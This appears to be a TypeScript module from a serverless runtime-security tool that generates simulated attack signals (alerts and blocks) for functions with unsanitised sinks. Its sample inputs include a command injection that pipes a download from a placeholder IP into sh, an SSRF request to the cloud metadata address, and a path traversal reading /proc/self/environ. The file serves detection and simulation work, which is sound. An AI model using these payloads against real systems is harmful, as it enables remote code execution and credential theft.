import type { ProfileSection, Signal } from '@emmental/model';
import type { UploadedFunction, UploadedRule } from '@emmental/store/upload';

/** Fields of the JSON of `scan` that an attack uses. */
interface Sink {
  readonly kind: string;
  readonly eventPath: string | null;
  readonly file: string;
  readonly line: number;
  readonly sanitized: string | null;
}

/** An attack by the kind of place where it takes effect. */
interface Attempt {
  readonly class: string;
  /** The argument of the dangerous call. */
  readonly what: string;
  /** The section that sees the call, and the call as that section names it; null = the inspection alone sees it. */
  readonly seen: readonly [ProfileSection, string] | null;
  readonly api: string | null;
}

const attempts: Readonly<Record<string, Attempt>> = {
  shell: {
    class: 'cmdi',
    what: 'convert /tmp/a.jpg; curl 198.51.100.7|sh -resize …',
    seen: ['processes', '/bin/sh -c "convert /tmp/a.jpg; curl 198.51.100.7|sh …"'],
    api: 'child_process.exec',
  },
  // A rule that watches `eval` lets it run, so only the inspection sees the attack.
  code: { class: 'code-injection', what: 'process.env', seen: null, api: null },
  url: {
    class: 'ssrf',
    what: 'http://169.254.169.254/latest/meta-data',
    seen: ['outbound', '169.254.169.254:80'],
    api: null,
  },
  path: {
    class: 'path-traversal',
    what: '/tmp/../proc/self/environ',
    seen: ['files', 'read /proc/self/environ'],
    api: null,
  },
  nosql: { class: 'nosqli', what: 'an operator in a value', seen: null, api: null },
  sql: { class: 'sqli', what: 'a quote that ends the text', seen: null, api: null },
  template: { class: 'ssti', what: '{{…}}', seen: null, api: null },
};

export type Send = (milliseconds: number, fields: Partial<Signal>) => Signal;

const hour = 3_600_000;

/**
 * Returns the signals of somebody who tries each kind of place where event text takes effect, three times within a second. As in a guard,
 * the inspection proves the attack first; if it does not block the call, the rules of a section decide.
 */
export function attackOn(
  fn: UploadedFunction,
  day: number,
  invocationOf: (nth: number) => string,
  send: Send,
): readonly Signal[] {
  const { behaviours } = (fn.report ?? {}) as { readonly behaviours?: { readonly sinks: readonly Sink[] } };
  if (fn.who !== 'public') return [];
  const open = (behaviours?.sinks ?? []).filter(
    ({ kind, sanitized }) => sanitized === null && attempts[kind],
  );
  const sinks = [...new Map(open.toReversed().map((sink) => [sink.kind, sink])).values()];
  return sinks.flatMap((sink, place) =>
    [0, 1, 2].flatMap((nth) => {
      const at = 2 * hour + day * 61_000 + place * 40_000 + nth * 300;
      return attempt(fn, sink, (after, fields) =>
        send(at + after, { ...fields, invocation: invocationOf(3 * place + nth) }),
      );
    }),
  );
}

function attempt(fn: UploadedFunction, { kind, eventPath, file, line }: Sink, send: Send): readonly Signal[] {
  const found = attempts[kind];
  if (!found) return [];
  const { class: name, what, seen, api } = found;
  const evidence = {
    ...(api === null ? {} : { api }),
    ...(eventPath === null ? {} : { path: eventPath }),
    stack: [`${file}:${line}`],
  };
  const inspection = modeIn(fn, 'inbound');
  const proof = send(0, {
    kind: inspection === 'enforce' ? 'block' : 'alert',
    section: 'inbound',
    decision: 'deny',
    mode: inspection,
    evidence: {
      ...evidence,
      what,
      class: name,
      signature: `sink/${kind}`,
      proof: "the event's text reaches the call unchanged",
      ...placeOf(fn, eventPath),
    },
  });
  if (seen === null || inspection === 'enforce') return [proof];
  const [section, call] = seen;
  const mode = modeIn(fn, section);
  const rule = denialOf(fn.rules, section, call);
  const settled = send(5, {
    kind: mode === 'enforce' ? 'block' : 'alert',
    section,
    rule: rule?.name ?? '(all other)',
    match: rule?.id ?? null,
    decision: 'deny',
    mode,
    evidence: { ...evidence, what: call },
  });
  return [proof, settled];
}

/** Returns what a guard says about the place of the text: its field, and the rule that let the event in, if it is clear which did. */
function placeOf({ rules }: UploadedFunction, eventPath: string | null): Partial<Signal['evidence']> {
  const entries = rules.filter(
    ({ section, id, action }) => section === 'inbound' && id !== null && action !== 'deny',
  );
  const [entry] = entries;
  if (eventPath === null || entry === undefined || entries.length > 1) return {};
  const [, trigger] = /^(s3|sqs|sns|kinesis|dynamodb):/.exec(entry.match) ?? [];
  return {
    ...(trigger === undefined ? {} : { trigger }),
    fields: [eventPath.replace(/\[\d*\]/g, '[]')],
    entry: entry.name,
  };
}

type Mode = 'alert' | 'enforce' | 'learn';

const modeIn = ({ modes }: UploadedFunction, section: string): Mode =>
  (modes as Partial<Record<string, Mode>> | null)?.[section] ?? 'alert';

/** Returns the rule with a name that denies a call; null = the rule for all others does. */
const denialOf = (
  rules: readonly UploadedRule[],
  section: ProfileSection,
  call: string,
): UploadedRule | null =>
  rules.find(
    (rule) =>
      rule.section === section &&
      rule.action === 'deny' &&
      rule.id !== null &&
      rule.match.split(', ').includes(call.replace(/:\d+$/, '')),
  ) ?? null;
